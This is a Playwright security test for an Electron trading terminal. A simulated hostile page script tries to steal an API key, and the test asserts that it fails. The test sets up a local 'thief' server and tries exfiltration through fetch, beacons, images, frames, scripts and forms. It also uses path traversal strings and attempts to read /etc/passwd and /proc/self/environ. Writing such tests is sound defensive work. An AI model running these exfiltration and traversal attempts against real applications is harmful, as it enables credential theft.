/**
 * A script in the terminal's own page does what it can to get the key, or to have it sent elsewhere; and gets nothing.
 * It has everything that a page has: the bridge, the cookie, the origin. A thief's server waits for whatever may come.
 */
import { once } from 'node:events';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import type { Page } from '@playwright/test';
import { WebSocketServer } from 'ws';
// Declares `window.tapedeck`.
import '../../src/renderer/bridge/calls.ts';
import type { LocalServer } from '../../src/main/server/protocol/local-server.ts';
import { startSimulation } from '../../src/main/server/simulate.ts';
import { seesWorld } from '../electron/cases.ts';
import { expect, startTerminal, test } from './terminal.ts';

const KEY = 'the-key-to-be-stolen-7391';
const TYPED = 'typed-by-the-person-5555';

/** Calls as a script makes them: any name, any input. */
type AnyCalls = Record<string, (input?: unknown) => Promise<unknown>>;

/** Writes down every connection, with the headers and bytes that came with it. */
async function startThief() {
  const loot: string[] = [];
  const server = createServer((request, response) => {
    loot.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)}`);
    request.on('data', (part) => loot.push(String(part)));
    response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('{}');
  });
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket, request) => {
    loot.push(`socket ${request.url} ${JSON.stringify(request.rawHeaders)}`);
    socket.on('message', (data) => loot.push(String(data as Buffer)));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const close = (): void => {
    sockets.close();
    server.closeAllConnections();
    server.close();
  };
  return { loot, rest: `http://127.0.0.1:${port}`, ws: `ws://127.0.0.1:${port}`, close };
}

type Thief = Awaited<ReturnType<typeof startThief>>;

/** Addresses in every call that might take some. */
const moveAddresses = (page: Page, { rest, ws }: Thief): Promise<unknown> =>
  page.evaluate(
    async ({ rest, ws }) => {
      const calls = window.tapedeck!.calls as unknown as AnyCalls;
      const endpoints = { ws, wsDelayed: ws, rest, wsUrl: ws, wsDelayedUrl: ws, restUrl: rest };
      const { value } = (await calls['preferences.get']()) as { value: object };
      const moved = { ...value, ...endpoints, endpoints, host: { endpoints } };
      return [
        await calls['preferences.set'](moved),
        await calls['preferences.set']({ base: value, next: moved, ...endpoints, endpoints }),
        await calls['preferences.set']({ base: value, next: JSON.parse(`{"__proto__":${JSON.stringify(moved)}}`) }),
        await calls['workspace.set']({ base: { version: 1 }, next: { ...moved, version: 1 } }),
        await calls['world.open']({ kind: 'live', key: 'x', ...endpoints, endpoints, source: endpoints }),
      ];
    },
    { rest, ws },
  );

/** A symbol that would leave its place in a path, if it were put there as it is. */
const escapePaths = (page: Page, { rest }: Thief): Promise<unknown> =>
  page.evaluate(async (rest) => {
    const calls = window.tapedeck!.calls as unknown as AnyCalls;
    const symbols = ['../..', `//${rest.slice(7)}`, rest, `@${rest.slice(7)}`, '?apiKey='];
    return Promise.all(
      symbols.flatMap((symbol) => [
        calls['bars.history']({ symbol, timeframeMs: 60_000, limit: 10 }),
        calls['chain.expiries']({ underlying: symbol }),
        calls['chain.contracts']({ underlying: symbol, expiry: '2026-12-18', root: symbol }),
        calls['symbols.search']({ text: symbol, limit: 5 }),
      ]),
    );
  }, rest);

/** Every call there is but those that change what runs, calls there are not, names of sessions that are paths, files of the host's folders, storage. */
const readEverything = (page: Page): Promise<unknown> =>
  page.evaluate(async () => {
    const calls = window.tapedeck!.calls as unknown as AnyCalls;
    const found: Record<string, unknown> = {
      cookie: document.cookie,
      storage: JSON.stringify(Object.entries(localStorage)),
    };
    // The example day is made for ten seconds, and answered with an id as the list's are.
    const left = ['key.connect', 'key.forget', 'recording.set', 'world.open', 'sessions.choose', 'sessions.example'];
    for (const name of Object.keys(calls)) if (!left.includes(name)) found[name] = await calls[name]();
    for (const sessionId of ['/proc/self/environ', '../host.json', 'host.json', '/etc/passwd']) {
      found[`open ${sessionId}`] = await calls['world.open']({ kind: 'session', sessionId });
      found[`remove ${sessionId}`] = await calls['sessions.remove']({ sessionId });
    }
    for (const path of ['/../host.json', '/%2e%2e/host.json', '/..%2fhost.json', '/enter', '/enter.html', '/key']) {
      const answer = await fetch(path);
      found[path] = [answer.status, await answer.text()];
    }
    const forged = JSON.stringify({ token: '', key: 'mine-instead-0000' });
    found['posted'] = (await fetch('/key', { method: 'POST', body: forged })).status;
    return found;
  });

/** A bridge of its own, spoken to in words that only the host uses towards its engine. */
const speakToEngine = (page: Page): Promise<unknown> =>
  page.evaluate(async () => {
    const socket = new WebSocket(`ws://${location.host}/bridge`);
    const said: unknown[] = [];
    socket.addEventListener('message', ({ data }) => typeof data === 'string' && said.push(data));
    await new Promise((resolve) => socket.addEventListener('open', resolve));
    socket.send(JSON.stringify({ type: 'call', id: 1, name: 'checkKey', input: {} }));
    socket.send(JSON.stringify({ type: 'stream', message: { kind: 'checkKey', callId: 1 } }));
    await new Promise((resolve) => socket.addEventListener('close', resolve));
    return said;
  });

/** Returns the rules of the content security policy that stopped each way. */
const goOut = (page: Page, { rest, ws }: Thief): Promise<string[]> =>
  page.evaluate(
    async ({ rest, ws }) => {
      const stopped: string[] = [];
      const all = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (stopped.push(effectiveDirective) === 7) resolve();
        });
      });
      fetch(`${rest}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
      try {
        void new WebSocket(ws).url;
      } catch {
        // Some browsers throw, some only tell the policy's listeners.
      }
      navigator.sendBeacon(`${rest}/beacon`, 'x');
      new Image().src = `${rest}/image.png`;
      const add = <T extends HTMLElement>(element: T, set: Partial<T>): T => {
        document.body.append(Object.assign(element, set));
        return element;
      };
      add(document.createElement('iframe'), { src: `${rest}/frame` });
      add(document.createElement('script'), { src: `${rest}/script.js` });
      add(document.createElement('form'), { action: `${rest}/form`, method: 'post' }).submit();
      await all;
      return stopped.toSorted();
    },
    { rest, ws },
  );

/** What the opener of the key page can see of it, in a frame and in a window. */
const watchKeyPage = (page: Page): Promise<{ frame: boolean; popup: string; fetched: number }> =>
  page.evaluate(async () => {
    const seen = (other: Window | null): string => {
      try {
        return other?.document.body.innerHTML ?? 'nothing';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const frame = document.createElement('iframe');
    frame.src = '/key';
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    const popup = window.open('/key', 'key', 'popup,width=400,height=400');
    void window.tapedeck!.calls['key.connect']();
    await loaded;
    const fetched = (await fetch('/key')).status;
    return { frame: seen(frame.contentWindow).includes('data-token'), popup: seen(popup), fetched };
  });

test('a page script tries to steal the key, and fails', async ({ page, context }, testInfo) => {
  const thief = await startThief();
  let server: LocalServer | undefined;
  let stop = async (): Promise<void> => undefined;
  try {
    ({ server } = await startSimulation({ port: 0, key: KEY, simulation: { seed: 7, rate: 100 } }));
    const folder = testInfo.outputPath('data');
    // Begins without a connection: the live market is opened by the script, and need not wait for one before it.
    mkdirSync(folder, { recursive: true });
    const endpoints = { ws: server.wsUrl, wsDelayed: server.delayedWsUrl, rest: server.restUrl };
    writeFileSync(join(folder, 'host.json'), JSON.stringify({ endpoints }));
    const terminal = await startTerminal(['--data', folder, '--simulated'], { TAPEDECK_SERVER_KEY: KEY }, folder);
    stop = async () => {
      terminal.process.kill('SIGTERM');
      if (terminal.process.exitCode === null) await once(terminal.process, 'exit');
    };
    const heard: string[] = [];
    page.on('websocket', (socket) => socket.on('framereceived', ({ payload }) => heard.push(String(payload))));
    await page.goto(terminal.url);
    await seesWorld(page, /^SIMULATED/);

    const got: unknown[] = [await moveAddresses(page, thief)];
    await seesWorld(page, /^LIVE/);
    got.push(await escapePaths(page, thief));
    const read = await readEverything(page);
    expect(read).toMatchObject({ cookie: '', '/key': [401, ''], posted: 401 });
    got.push(read, await speakToEngine(page));

    const opened = context.waitForEvent('page');
    const { frame, popup, fetched } = await watchKeyPage(page);
    expect([frame, fetched]).toEqual([false, 401]);
    const keyPage = await opened;
    await keyPage.getByLabel('API key').fill(TYPED);
    // Apart: no origin, nobody who opened it, no bridge.
    expect(await keyPage.evaluate(() => [self.origin, window.opener, 'tapedeck' in window])).toEqual([
      'null',
      null,
      false,
    ]);
    expect(popup).not.toContain('data-token');
    await keyPage.getByRole('button', { name: 'Cancel' }).click();

    expect(await goOut(page, thief)).toEqual([
      'connect-src',
      'connect-src',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'script-src-elem',
    ]);

    // Nothing of it changed where the key goes.
    const before = server.stats().restRequests;
    await page.reload();
    await seesWorld(page, /^LIVE/);
    await expect.poll(() => server!.stats().restRequests).toBeGreaterThan(before);
    expect(thief.loot).toEqual([]);
    expect(JSON.stringify(got)).not.toContain(KEY);
    // Where things lie on the disk is not told to it either, by no answer and no message.
    expect(heard.join('\n')).toContain('"recording":{');
    expect(JSON.stringify(got) + heard.join('\n')).not.toContain(dirname(folder));
    expect(terminal.stderr()).not.toContain(KEY);
  } finally {
    await page.close();
    await stop();
    await server?.close();
    thief.close();
  }
});
